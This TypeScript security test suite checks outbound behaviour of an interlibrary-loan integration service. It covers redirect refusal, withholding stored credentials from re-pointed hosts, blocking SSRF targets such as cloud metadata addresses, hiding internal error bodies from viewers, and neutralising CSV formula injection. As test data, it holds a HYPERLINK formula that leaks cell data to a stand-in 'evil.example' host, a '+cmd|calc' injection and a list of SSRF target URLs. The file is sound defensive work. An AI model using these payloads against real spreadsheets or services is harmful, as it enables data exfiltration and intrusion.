import { createServer, IncomingMessage, Server } from 'http';
import { AddressInfo } from 'net';
import { resolve } from 'path';
import { AppConfig } from '@illbridge/common';
import { createTestDatabase, eventually, jsonClient, TEST_ADMIN_KEY, TestDatabase, testConfig, wipeQueuePrefix } from '@illbridge/testing';
import { RunningSimulator, startSimulator } from '../../apps/ill-simulator/src/simulator';
import { RunningService } from '../../scripts/lib/services';
import { faultServices } from '../faults/fault-services';

const LOG_DIR = resolve(__dirname, '..', '..', 'test-artifacts', 'security-outbound');
const LIBRIS_KEY = 'libris-secret-api-key';
const NACSIS_PASSWORD = 'nacsis-secret-password';
const INTERNAL_BODY = 'java.lang.IllegalStateException: pool exhausted at db-internal-7.corp.example:5432 (user=illbridge_rw, host 10.20.30.40)';

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** A small HTTP server of the test: `answer` decides, every request is recorded. */
async function httpServer(answer: (req: IncomingMessage, res: import('http').ServerResponse) => void): Promise<{ url: string; seen: Seen[]; server: Server }> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', () => {
      seen.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      answer(req, res);
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, server };
}

/** Issue 22, items 2, 3 and 8 (private targets, viewer reasons, CSV formulas): profile-config, the import worker
 *  and reporting as processes, against small local servers standing in for hosts an attacker controls. */
describe('security: what leaves the services (issue 22)', () => {
  const services = faultServices(LOG_DIR);
  let db: TestDatabase;
  let config: AppConfig;
  let admin: RunningService;
  let strict: RunningService;
  let reporting: RunningService;
  let sim: RunningSimulator;
  let catcher: Awaited<ReturnType<typeof httpServer>>;
  let redirector: Awaited<ReturnType<typeof httpServer>>;
  let broken: Awaited<ReturnType<typeof httpServer>>;
  let api: ReturnType<typeof jsonClient>;
  let viewerKey: string;
  let operatorKey: string;
  let seq = 0;

  const librisProfile = (baseUrl: string, extra: Record<string, unknown> = {}) => ({
    code: `LIBRIS_${++seq}`, name: `Libris ${seq}`, integrationType: 'RESOURCE_SHARING', system: 'LIBRIS', baseUrl, libraryCode: 'Hig',
    resourceSharingLibraryCode: 'MAIN', authentication: { enabled: true, apiKey: LIBRIS_KEY }, harvestStartDate: new Date().toISOString().slice(0, 10),
    schedule: { type: 'NOT_SCHEDULED' }, ...extra,
  });
  const nacsisProfile = (baseUrl: string) => ({
    code: `NACSIS_${++seq}`, name: `NACSIS ${seq}`, integrationType: 'RESOURCE_SHARING', system: 'NACSIS', baseUrl, libraryCode: 'FA012345',
    resourceSharingLibraryCode: 'MAIN', authentication: { enabled: true, userId: 'USER0001', password: NACSIS_PASSWORD },
    harvestStartDate: new Date(Date.now() - 86_400_000).toISOString().slice(0, 10), schedule: { type: 'NOT_SCHEDULED' },
  });
  /** Creates the profile with its own library mapped, runs it, and answers the ended run's report (as the admin). */
  const created = async (body: Record<string, unknown>) => {
    const profile = await api('POST', '/api/integration-profiles', body);
    expect(profile.status).toBe(201);
    await api('PUT', `/api/integration-profiles/${profile.body.id}/library-mappings`, [{ libraryCode: 'MAIN', externalLibraryCode: body.libraryCode }]);
    return profile.body.id as string;
  };
  const run = async (profileId: string, key = TEST_ADMIN_KEY) => {
    const started = await api('POST', `/api/integration-profiles/${profileId}/run`);
    expect(started.status).toBe(202);
    const reports = jsonClient(reporting.url, key);
    return eventually(async () => {
      const report = await reports('GET', `/api/jobs/${started.body.jobRunId}`);
      return report.status === 200 && !['PENDING', 'RUNNING'].includes(report.body.state) && report.body;
    }, 45_000, 'the run to end');
  };

  beforeAll(async () => {
    db = await createTestDatabase();
    config = testConfig(db.url);
    catcher = await httpServer((_req, res) => res.writeHead(200, { 'Content-Type': 'application/json' }).end('{"ill_requests": []}'));
    redirector = await httpServer((req, res) => res.writeHead(req.method === 'GET' ? 302 : 307, { Location: `${catcher.url}${req.url}` }).end());
    broken = await httpServer((_req, res) => res.writeHead(500, { 'Content-Type': 'text/plain' }).end(INTERNAL_BODY));
    sim = await startSimulator({ logLevels: false });
    [admin, strict, reporting] = await Promise.all([
      services.spawn('profile-config', config, {}),
      services.spawn('profile-config', config, { ALLOW_PRIVATE_TARGETS: 'false' }),
      services.spawn('reporting', config, {}),
      services.spawn('import-worker', config, { IMPORT_HTTP_ATTEMPTS: '1' }),
    ]);
    api = jsonClient(admin.url, TEST_ADMIN_KEY);
    expect((await api('POST', '/api/libraries', { code: 'MAIN', name: 'Main', resourceSharing: true })).status).toBe(201);
    viewerKey = (await api('POST', '/api/api-keys', { name: 'staff', role: 'viewer' })).body.key;
    operatorKey = (await api('POST', '/api/api-keys', { name: 'night shift', role: 'operator' })).body.key;
    await jsonClient(sim.url)('POST', '/_sim/libris/keys', { sigel: 'Hig', apiKey: LIBRIS_KEY });
  }, 120_000);

  afterAll(async () => {
    await services.killAll();
    await sim?.close();
    for (const s of [catcher, redirector, broken]) s?.server.close();
    if (config) await wipeQueuePrefix(config.redisUrl, config.queuePrefix);
    await db?.drop();
  });

  it('item 2: a Libris 302 to another host is not followed: the run fails saying so, and that host receives nothing (no api-key)', async () => {
    const report = await run(await created(librisProfile(`${redirector.url}/libris/api`)));
    expect(report.state).toBe('FAILED');
    expect(report.error.code).toBe('EXTERNAL_SYSTEM_ERROR');
    expect(report.error.message).toContain(`Libris answered with a redirect (HTTP 302 to ${catcher.url}); redirects are not followed`);
    expect(redirector.seen.length).toBeGreaterThan(0);
    expect(redirector.seen[0].headers['api-key']).toBe(LIBRIS_KEY);
    expect(catcher.seen).toEqual([]);
  });

  it('item 2: a NACSIS 307 to another host is not followed: the password in the body goes nowhere else', async () => {
    const report = await run(await created(nacsisProfile(`${redirector.url}/nacsis/catp`)));
    expect(report.state).toBe('FAILED');
    expect(report.error.message).toContain(`NACSIS answered with a redirect (HTTP 307 to ${catcher.url}); redirects are not followed`);
    expect(redirector.seen.some((s) => s.method === 'POST' && s.body.includes(NACSIS_PASSWORD))).toBe(true);
    expect(catcher.seen).toEqual([]);
  });

  it('item 3: re-pointing a profile to another host needs its credentials again; the stored ones never go there', async () => {
    const libris = await created(librisProfile(`${sim.url}/libris/api`));
    const moved = await api('PATCH', `/api/integration-profiles/${libris}`, { baseUrl: `${catcher.url}/libris/api` });
    expect(moved.status).toBe(400);
    expect(moved.body).toMatchObject({
      code: 'VALIDATION_FAILED',
      message: [`authentication.apiKey must be sent again: baseUrl now points at ${catcher.url} instead of ${sim.url}, and stored credentials are never sent to another host`],
    });
    expect((await run(libris)).state).toBe('COMPLETED_SUCCESSFULLY'); // still the simulator, with the stored key
    expect(catcher.seen).toEqual([]);
    // Another path on the same origin keeps the key.
    expect((await api('PATCH', `/api/integration-profiles/${libris}`, { baseUrl: `${sim.url}/libris/api/` })).status).toBe(200);
    // With the credentials sent again, the move is made, and only the new key goes to the new host.
    const withKey = await api('PATCH', `/api/integration-profiles/${libris}`, { baseUrl: `${catcher.url}/libris/api`, authentication: { enabled: true, apiKey: 'key-for-the-new-host' } });
    expect(withKey.status).toBe(200);
    expect(withKey.body.authentication).toEqual({ enabled: true, apiKeySet: true });
    await run(libris);
    expect(catcher.seen.length).toBeGreaterThan(0);
    expect(catcher.seen.every((s) => s.headers['api-key'] === 'key-for-the-new-host')).toBe(true);

    const nacsis = await created(nacsisProfile(`${sim.url}/nacsis/catp`));
    const nacsisMoved = await api('PATCH', `/api/integration-profiles/${nacsis}`, { baseUrl: `${catcher.url}/nacsis/catp` });
    expect(nacsisMoved.status).toBe(400);
    expect(nacsisMoved.body.message).toEqual([`authentication.password must be sent again: baseUrl now points at ${catcher.url} instead of ${sim.url}, and stored credentials are never sent to another host`]);
  });

  it('item 8: without ALLOW_PRIVATE_TARGETS a baseUrl on loopback, link-local (cloud metadata) or a private network is refused', async () => {
    const strictApi = jsonClient(strict.url, TEST_ADMIN_KEY);
    const refused: Array<[string, string]> = [
      ['http://127.0.0.1:8080/api', 'a loopback address (127.0.0.1)'],
      ['http://localhost/api', 'a name of this machine or of a metadata service (localhost)'],
      ['http://169.254.169.254/latest/meta-data/', 'a link-local address (cloud instance metadata lives there) (169.254.169.254)'],
      ['http://metadata.google.internal/computeMetadata/v1/', 'a name of this machine or of a metadata service (metadata.google.internal)'],
      ['http://[::1]:3000/', 'a loopback address ([::1])'],
      ['http://[::ffff:127.0.0.1]/', 'a loopback address ([::ffff:7f00:1])'],
      ['http://2130706433/', 'a loopback address (127.0.0.1)'],
      ['http://10.1.2.3/api', 'a private network address (10.1.2.3)'],
      ['http://192.168.1.10/api', 'a private network address (192.168.1.10)'],
    ];
    for (const [baseUrl, reason] of refused) {
      const answer = await strictApi('POST', '/api/integration-profiles', librisProfile(baseUrl));
      expect({ baseUrl, status: answer.status, body: answer.body }).toMatchObject({
        status: 400,
        body: { code: 'VALIDATION_FAILED', message: [`baseUrl must not point at ${reason}; set ALLOW_PRIVATE_TARGETS=true to allow it`] },
      });
    }
    const publicOne = await strictApi('POST', '/api/integration-profiles', librisProfile('https://iller.libris.kb.se/librisfjarrlan/api'));
    expect(publicOne.status).toBe(201);
    const repointed = await strictApi('PATCH', `/api/integration-profiles/${publicOne.body.id}`, { baseUrl: 'http://169.254.169.254/', authentication: { enabled: true, apiKey: 'k' } });
    expect(repointed.status).toBe(400);
    expect(repointed.body.message).toEqual(['baseUrl must not point at a link-local address (cloud instance metadata lives there) (169.254.169.254); set ALLOW_PRIVATE_TARGETS=true to allow it']);
    // The same body on the instance that allows private targets (the demo's and the tests' setting).
    expect((await api('POST', '/api/integration-profiles', librisProfile('http://127.0.0.1:8080/api'))).status).toBe(201);
  });

  it("item 8: a viewer reads a short reason for a failed run, never the external system's error body; an operator reads it all", async () => {
    const report = await run(await created(librisProfile(`${broken.url}/libris/api`)));
    expect(report.state).toBe('FAILED');
    expect(report.error.message).toContain('db-internal-7.corp.example'); // the admin's view
    const jobRunId = report.id;
    const asViewer = (await jsonClient(reporting.url, viewerKey)('GET', `/api/jobs/${jobRunId}`)).body;
    expect(asViewer.error.code).toBe('EXTERNAL_SYSTEM_UNAVAILABLE');
    expect(asViewer.error.message).toMatch(/HTTP 500/);
    for (const leak of ['java', 'db-internal', 'illbridge_rw', '10.20.30.40', '127.0.0.1', broken.url]) expect(asViewer.error.message).not.toContain(leak);
    expect(asViewer.error.message.length).toBeLessThanOrEqual(160);
    const asOperator = (await jsonClient(reporting.url, operatorKey)('GET', `/api/jobs/${jobRunId}`)).body;
    expect(asOperator.error.message).toContain(INTERNAL_BODY);
  });

  it('item 8: the events CSV shows values that start like a spreadsheet formula as text', async () => {
    const simApi = jsonClient(sim.url);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const today = new Date().toISOString().slice(0, 10);
    const added = await simApi('POST', '/_sim/libris/requests', { sigel: 'Hig', created: today, record: { lf_number: formula, requesting_library: '@Xyz', title: '+cmd|calc' } });
    expect(added.status).toBe(201);
    const report = await run(await created(librisProfile(`${sim.url}/libris/api`)));
    expect(report.failedBorrowing.map((f: any) => f.externalId)).toContain(formula);
    const res = await fetch(`${reporting.url}/api/jobs/${report.id}/events.csv`, { headers: { Authorization: `Bearer ${viewerKey}` } });
    expect(res.status).toBe(200);
    const lines = (await res.text()).split('\r\n');
    const row = lines.find((line) => line.includes('HYPERLINK'))!;
    expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)).toBe(true);
    // No field of any row starts a formula.
    for (const line of lines.slice(1).filter(Boolean)) {
      for (const field of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((f) => f.replace(/,$/, '').replace(/^"/, ''))) {
        expect(/^[=+\-@\t\r]/.test(field)).toBe(false);
      }
    }
  });
});
